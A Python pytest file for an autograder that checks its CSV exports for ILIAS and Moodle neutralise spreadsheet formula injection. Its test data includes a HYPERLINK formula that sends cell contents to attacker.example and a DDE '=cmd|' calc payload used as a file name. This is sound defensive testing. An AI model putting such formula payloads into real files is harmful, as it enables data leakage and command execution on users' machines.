"""No CSV file we write runs a formula in a spreadsheet (OWASP's CSV injection rule): roster names
such as ``=1+41`` and ``=HYPERLINK(...)`` (ILIAS users edit their profile names) and file names of
a download go from collect through export into the platforms' files neutralised, with a leading
``'``; numbers stay numbers, and the students are still matched and exported."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from test_autograder_export import results_folder

from autograder import csvfile
from autograder.cli import main

pytestmark = pytest.mark.filterwarnings("ignore:Object of type:Warning")  # nbgrader + SQLAlchemy 2
NB = "1_relu_kettenregel"
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
QUOTED = '"' + HYPERLINK.replace('"', '""') + '"'  # a CSV field with quotes and a comma
ROSTER = f"""Login;Vorname;Nachname;E-Mail;Matrikelnummer
zaehnlich;=1+41;{QUOTED};zoe@uni.example;4711001
jgross;@SUM(1+1);-2+3;+49 123;4711002
"""
DOWNLOAD = {
    "Abgaben/1+41_Zoe_zaehnlich_6021/1_relu_kettenregel.ipynb": b"zoe",
    "Abgaben/Gross_Juergen_jgross_6022/1_relu_kettenregel.ipynb": b"juergen",
    "=cmd|' /C calc'!A0.ipynb": b"calc",
}


def rows_of(text):
    return list(csv.reader(io.StringIO(text)))


def formulas(rows):
    """The fields of ``rows`` a spreadsheet would run."""
    return [v for row in rows for v in row if v[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not re.fullmatch(r"[+-]?\d+(\.\d+)?", v)]


@pytest.mark.parametrize("value, written", [
    ("=1+41", "'=1+41"), (HYPERLINK, "'" + HYPERLINK), ("+49 123", "'+49 123"),
    ("-2+3", "'-2+3"), ("@SUM(1+1)", "'@SUM(1+1)"), ("\tx", "'\tx"), ("\r=x", "'\r=x"),
    ("'=x", "''=x"), ("'t Hooft", "''t Hooft"), ("Zoë", "Zoë"), ("-1.5", "-1.5"), ("+2", "+2"),
    ("", ""), (-1.5, -1.5), (3, 3)])
def test_a_field_is_neutralised_and_read_back(value, written):
    assert csvfile.neutral(value) == written
    if isinstance(value, str):
        assert csvfile.original(written) == value


def test_every_csv_file_is_written_by_the_one_writer():
    """Fix the kind, not the example: no module of the grader writes CSV itself."""
    root = Path(__file__).resolve().parent.parent / "autograder"
    writers = [p.name for p in root.glob("*.py") if p.name != "csvfile.py"
               and re.search(r"csv\.(writer|DictWriter)\b", p.read_text())]
    assert not writers


def test_roster_formulas_are_neutralised_from_collect_to_export(tmp_path, monkeypatch):
    from nbgrader.api import Gradebook

    download = tmp_path / "download"
    for name, data in DOWNLOAD.items():
        (download / name).parent.mkdir(parents=True, exist_ok=True)
        (download / name).write_bytes(data)
    roster = tmp_path / "mitglieder.csv"
    roster.write_text(ROSTER, encoding="utf-8")
    subs = tmp_path / "subs"
    assert main(["collect", str(download), "--assignment", "unit1_de", "--roster", str(roster),
                 "--out", str(subs)]) == 0
    collected_text = Path(f"{subs}-collected.csv").read_text(encoding="utf-8")
    unmatched_text = Path(f"{subs}-unmatched.csv").read_text(encoding="utf-8")
    assert not formulas(rows_of(collected_text)) and not formulas(rows_of(unmatched_text))
    assert "'=cmd|" in unmatched_text  # the file name, neutralised
    # both students matched; the names read back as they are in the roster
    collected = {r["student"]: r for r in csvfile.read(Path(f"{subs}-collected.csv"))}
    assert set(collected) == {"4711001", "4711002"}
    assert (collected["4711001"]["first"], collected["4711001"]["last"]) == ("=1+41", HYPERLINK)

    # a gradebook with both graded (as grade leaves it), and their feedback
    results, db = results_folder(tmp_path, monkeypatch)
    with Gradebook(db) as gb:
        gb.add_assignment("unit1_de")
        gb.add_notebook(NB, "unit1_de")
        gb.add_grade_cell("auto", NB, "unit1_de", max_score=6, cell_type="code")
        for sid in collected:
            gb.add_student(sid)
            gb.add_submission("unit1_de", sid)
            grade = gb.find_grade("auto", NB, "unit1_de", sid)
            grade.auto_score, grade.needs_manual_grade = 4.0, False
            gb.db.commit()
            feedback = results / "feedback" / sid / "unit1_de" / f"{NB}.html"
            feedback.parent.mkdir(parents=True)
            feedback.write_text(f"<p>feedback {sid}</p>")

    out = tmp_path / "import"
    assert main(["export", str(results), "--collected", f"{subs}-collected.csv",
                 "--platform", "ilias", "--out", str(out)]) == 0
    with zipfile.ZipFile(out / "ilias-unit1_de.zip") as z:
        status = rows_of(z.read("multi_feedback_unit1_de/status.csv").decode())
    assert not formulas(status)
    names = {row[2]: (row[3], row[4]) for row in status[1:]}  # login -> (last, first)
    assert names == {"zaehnlich": ("'" + HYPERLINK, "'=1+41"), "jgross": ("'-2+3", "'@SUM(1+1)")}
    assert [row[6] for row in status[1:]] == ["4", "4"]  # the marks: numbers

    # the Moodle grade file: the identifier column, here the e-mail address "+49 123"
    assert main(["export", str(results), "--collected", f"{subs}-collected.csv",
                 "--platform", "moodle", "--id", "email", "--out", str(out)]) == 0
    grades = rows_of((out / "moodle-grades-unit1_de.csv").read_text(encoding="utf-8"))
    assert not formulas(grades)
    assert sorted(grades[1:]) == [["'+49 123", "4"], ["zoe@uni.example", "4"]]
